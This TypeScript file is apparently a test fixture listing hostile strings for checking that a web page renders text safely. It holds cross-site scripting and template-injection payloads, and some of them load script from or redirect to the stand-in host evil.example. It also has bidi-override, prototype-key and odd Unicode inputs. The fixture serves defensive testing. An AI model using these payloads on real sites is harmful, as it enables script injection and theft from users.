/** Texts that run, break out, mislead or do not fit if a page takes them for markup or code. */

/** Each would set `hacked` on the window, load from `evil.example`, or break the page. */
export const hostileTexts: readonly string[] = [
  '<img src=x onerror="window.hacked=1">',
  '"><script>window.hacked=1</script>',
  "javascript:window.hacked=1//'",
  '{{constructor.constructor("window.hacked=1")()}}',
  '</textarea><svg onload=window.hacked=1>',
  '\u202egnirts\u2066',
  '<script src="http://evil.example/a.js"></script>',
  `' autofocus onfocus='window.hacked=1' x='`,
  '<svg><a xlink:href="javascript:window.hacked=1"><text y="9">click</text></a></svg>',
  '<a href="javascript:window.hacked=1" id=hacked name=hacked>click</a>',
  '</title></script><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '</style><style>*{display:none;background:url(http://evil.example/b)}</style>',
  'red;background:url(http://evil.example/c);width:expression(window.hacked=1)',
  '<form action=http://evil.example><button autofocus>go</button></form>',
  '<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">',
  'data:text/html,<script>window.hacked=1</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that some templates run
  '${window.hacked=1} #{window.hacked=1} <%= window.hacked=1 %> {@html "<b>"}',
  '&lt;b&gt;&amp;amp;&#x3c;i&#x3e; <!-- ]]> --><![CDATA[',
  '../../../definitions?new=1#page',
  'null',
  'undefined',
  '__proto__',
  '[object Object]',
  'W'.repeat(500),
  '日本語 中文 한국어 हिन्दी ไทย العربية עברית Ελληνικά Кириллица',
  `👩🏽‍🚀🏳️‍🌈 z${'\u0351'.repeat(40)}\u200b\u200d\ufeff`,
  'one line\n\tand another\u0007',
];
